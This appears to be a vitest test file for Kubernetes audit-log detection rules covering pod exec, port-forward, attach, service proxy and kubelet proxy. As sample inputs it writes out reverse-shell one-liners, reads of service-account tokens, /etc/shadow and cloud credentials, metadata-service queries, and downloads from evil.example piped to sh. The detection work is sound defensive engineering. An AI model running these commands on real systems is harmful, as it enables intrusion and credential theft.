import { describe, expect, it } from 'vitest'
import { auditEvent, execs, raised, request, type Case } from '../../testing'
import { defaultAuditContext } from '../../context'
import { fetchedFrom } from './fetched-from'
import { connections } from '.'

const find = (id: string) => connections.find((detection) => detection.id === id)
const sh = (line: string, parts = {}) => execs(['sh', '-c', line], parts)
const inSystem = { object: { namespace: 'kube-system' } }

describe('k8s-pod-exec', () => {
  const detection = find('k8s-pod-exec')
  it.each<Case>([
    ['over WebSocket, told when it starts', execs(['ls']), 'low'],
    ['over SPDY', execs(['ls'], { verb: 'create' }), 'low'],
    ['told when it ends alone', execs(['ls'], { stage: 'ResponseComplete' }), 'low'],
    ['answered with 200', execs(['ls'], { code: 200 }), 'low'],
    ['a shell', execs(['/bin/bash']), 'medium'],
    ['a terminal', execs(['ls'], { uri: '/x?command=ls&stdin=true&tty=1' }), 'medium'],
    ['input alone', execs(['ls'], { uri: '/x?command=ls&stdin=true&tty=false' }), 'low'],
    ['a log that names no command', request('create', 'pods/exec', { code: 101 }), 'low'],
    ['refused', execs(['ls'], { code: 403 }), null],
    ['not answered yet', execs(['ls'], { stage: 'RequestReceived', code: null }), null],
    [
      'a dry run that is none: exec does not know it',
      execs(['ls'], { verb: 'create', uri: '/x?command=ls&dryRun=All' }),
      'low',
    ],
    ['in kube-system, which is told of by another', execs(['ls'], inSystem), null],
    ['a service account', execs(['ls'], { user: 'system:serviceaccount:shop:ci' }), null],
    ['the provider', execs(['ls'], { user: 'eks:node-manager' }), null],
    ['the certificate that AKS hands to people', execs(['ls'], { user: 'masterclient' }), 'low'],
    [
      'attributed to who acts as another',
      execs(['ls'], { impersonated: { name: 'system:admin', groups: [], extra: {} } }),
      'low',
    ],
    ['reading a pod', request('get', 'pods'), null],
    ['reading its log', request('get', 'pods/log'), null],
  ])('%s', (_, event, severity) => {
    expect(raised(detection, event)).toBe(severity)
  })

  it('shows the words of the command as they were given', () => {
    const hit = detection?.match(execs(['sh', '-c', 'echo "a b" & x']), defaultAuditContext)
    expect(hit).toMatchObject({
      evidence: { command: ['sh', '-c', 'echo "a b" & x'] },
      entities: [{ kind: 'container', name: 'web' }],
    })
  })
})

it.each<Case>([
  ['exec', execs(['ls'], inSystem), 'medium'],
  ['attach', request('get', 'pods/attach', { ...inSystem, code: 101, stage: 'ResponseStarted' }), 'medium'],
  ['by an account', execs(['ls'], { ...inSystem, user: 'system:serviceaccount:shop:ci' }), 'medium'],
  [
    'by a stolen controller',
    execs(['ls'], { ...inSystem, user: 'system:serviceaccount:kube-system:replicaset-controller' }),
    'medium',
  ],
  ['by the provider', execs(['ls'], { ...inSystem, user: 'aksService' }), null],
  [
    'a namespace that admins added',
    execs(['ls'], { object: { namespace: 'plat-x' } }),
    'medium',
    { systemNamespaces: ['plat-*'] },
  ],
  ['elsewhere', execs(['ls']), null],
  ['a tunnel', request('create', 'pods/portforward', { ...inSystem, code: 101 }), null],
])('k8s-exec-in-system-namespace: %s', (_, event, severity, context) => {
  expect(raised(find('k8s-exec-in-system-namespace'), event, context)).toBe(severity)
})

type Line = [line: string, ids: string[]]
it.each<Line>([
  ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', ['k8s-exec-sa-token-read']],
  ['cat /run/secrets/eks.amazonaws.com/serviceaccount/token', ['k8s-exec-sa-token-read']],
  ['ls /var/run/secrets', []],
  ['ls /var/run/secrets/vault', ['k8s-exec-sensitive-file']],
  ['cat /etc/shadow', ['k8s-exec-sensitive-file']],
  ['cat /etc/resolv.conf', []],
  ['cat /root/.aws/credentials', ['k8s-exec-sensitive-file']],
  ['cat /tls/server.key', ['k8s-exec-sensitive-file']],
  ['cat /proc/1/environ', ['k8s-exec-sensitive-file']],
  ['cat /app/keyboard.txt', []],
  ['pg_dump -U app shop', []],
  ['curl http://169.254.169.254/latest/meta-data/iam', ['k8s-exec-imds']],
  ['curl http://2852039166/', ['k8s-exec-imds']],
  ['wget -qO- http://metadata.google.internal/computeMetadata/v1/', ['k8s-exec-imds']],
  ['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['k8s-exec-reverse-shell']],
  ['nc 10.0.0.9 4444 -e /bin/sh', ['k8s-exec-reverse-shell']],
  ['nc -zv redis 6379', []],
  ['curl -O https://evil.example/x', ['k8s-exec-download']],
  ['wget 203.0.114.9/x', ['k8s-exec-download']],
  ['curl -s http://localhost:8080/healthz', []],
  ['curl -s http://127.0.0.1:9090/-/ready', []],
  ['curl http://checkout.shop.svc:8080/', []],
  ['curl http://checkout:8080/', []],
  ['curl http://10.96.0.1/', []],
  ['curl http://user:pass@evil.example/x', ['k8s-exec-download']],
  ['apt-get install -y nmap', ['k8s-exec-download']],
  ['apk --no-cache add curl', ['k8s-exec-download']],
  ['pip install requests', ['k8s-exec-download']],
  ['apt list --installed', []],
  ['tar cf - /data', ['k8s-kubectl-cp']],
  ['tar -xmf - -C /data', ['k8s-kubectl-cp']],
  ['tar czf /tmp/x.tgz /data', []],
  ['echo tar cf', []],
])('a shell told "%s" raises %j beside the exec itself', (line, ids) => {
  const specific = connections.filter(({ id }) => id !== 'k8s-pod-exec')
  expect(specific.filter((detection) => raised(detection, sh(line)) !== null).map(({ id }) => id)).toEqual(ids)
  // By a service account and over SPDY the same.
  const other = sh(line, { verb: 'create', user: 'system:serviceaccount:shop:ci', stage: 'ResponseComplete' })
  expect(specific.filter((detection) => raised(detection, other) !== null).map(({ id }) => id)).toEqual(ids)
})

it('weighs what it sees', () => {
  expect(raised(find('k8s-exec-download'), sh('curl https://x.example/i | sh'))).toBe('high')
  expect(raised(find('k8s-exec-download'), sh('curl https://x.example/i'))).toBe('medium')
  expect(raised(find('k8s-kubectl-cp'), execs(['tar', 'cf', '-', '/data']))).toBe('medium')
  expect(raised(find('k8s-kubectl-cp'), execs(['tar', '-xmf', '-', '-C', '/']))).toBe('low')
  expect(fetchedFrom('echo https://evil.example')).toBe('')
  expect(fetchedFrom('curl http://[2600::1]/x')).toBe('[2600::1]')
})

const forward = (name: string, parts = {}) =>
  request('get', 'pods/portforward', {
    code: 101,
    stage: 'ResponseStarted',
    ...parts,
    object: { name, ...(parts as { object?: object }).object },
  })
it.each<Case>([
  ['a pod', forward('checkout-5d4f8c9b7-x7k2p'), 'low'],
  ['over SPDY', forward('checkout', { verb: 'create' }), 'low'],
  ['a database', forward('postgres-0'), 'medium'],
  ['a dashboard’s pod', forward('argocd-server-5d4f8c9b7-x7k2p'), 'medium'],
  ['a name that only holds one', forward('grafanalike'), 'low'],
  ['in kube-system', forward('coredns', inSystem), 'medium'],
  ['the provider', forward('x', { user: 'eks:x' }), null],
  ['refused', forward('x', { code: 403 }), null],
])('k8s-port-forward: %s', (_, event, severity) => {
  expect(raised(find('k8s-port-forward'), event)).toBe(severity)
})

const attach = (parts = {}) =>
  request('create', 'pods/attach', { code: 101, stage: 'ResponseStarted', uri: '/x?stdin=true', ...parts })
it.each<Case>([
  ['by a person', attach(), 'low'],
  ['by an account', attach({ user: 'system:serviceaccount:shop:ci' }), 'low'],
  ['over WebSocket', attach({ verb: 'get' }), 'low'],
  ['in kube-system, which is told of by another', attach(inSystem), null],
  ['the provider', attach({ user: 'eks:x' }), null],
])('k8s-pod-attach: %s', (_, event, severity) => {
  expect(raised(find('k8s-pod-attach'), event)).toBe(severity)
})

const proxy = (resource: string, name: string, path: string, parts = {}) =>
  request('get', `${resource}/proxy`, {
    uri: `/api/v1/namespaces/shop/${resource}/${name}/proxy${path}`,
    object: { name },
    ...parts,
  })
const prometheus = { user: 'system:serviceaccount:monitoring:prometheus' }
it.each<Case>([
  ['a service', proxy('services', 'checkout:8080', '/'), 'low'],
  ['a pod, by POST', proxy('pods', 'checkout', '/x', { verb: 'create' }), 'low'],
  ['a dashboard behind its scheme and port', proxy('services', 'https:kubernetes-dashboard:443', '/'), 'high'],
  ['by an account', proxy('services', 'checkout', '/', { user: 'system:serviceaccount:shop:x' }), 'low'],
  ['monitoring', proxy('pods', 'checkout:9090', '/metrics', prometheus), null],
  ['monitoring gone astray', proxy('pods', 'checkout:9090', '/admin', prometheus), 'low'],
  ['the provider', proxy('services', 'x', '/', { user: 'system:gke-x' }), null],
  ['a program that was not there', proxy('services', 'x', '/', { code: 503 }), null],
])('k8s-pod-service-proxy: %s', (_, event, severity) => {
  expect(raised(find('k8s-pod-service-proxy'), event)).toBe(severity)
})

const kubelet = (path: string, parts = {}) =>
  request('get', 'nodes/proxy', {
    uri: `/api/v1/nodes/n1/proxy${path}`,
    object: { name: 'n1', namespace: '' },
    ...parts,
  })
it.each<Case>([
  ['its pods, by a person', kubelet('/pods'), 'medium'],
  ['a command', kubelet('/exec/shop/web/web?command=id', { code: 101 }), 'high'],
  ['a command by POST', kubelet('/run/shop/web/web', { verb: 'create' }), 'high'],
  ['its settings', kubelet('/configz'), 'high'],
  ['an encoded path', kubelet('/%65xec/shop/web/web'), 'high'],
  ['monitoring', kubelet('/metrics/cadvisor', prometheus), null],
  ['monitoring that runs commands', kubelet('/exec/shop/web/web', prometheus), 'high'],
  ['an account called otherwise', kubelet('/metrics', { user: 'system:serviceaccount:shop:web' }), 'medium'],
  ['a log without the object', auditEvent({ verb: 'get', uri: '/api/v1/nodes/n1:10250/proxy/runningpods/' }), 'high'],
  ['another request without an object', auditEvent({ verb: 'get', uri: '/healthz' }), null],
  ['the metrics resource, as it should be', request('get', 'nodes/metrics'), null],
  ['refused', kubelet('/pods', { code: 403 }), null],
])('k8s-node-proxy: %s', (_, event, severity) => {
  expect(raised(find('k8s-node-proxy'), event)).toBe(severity)
})
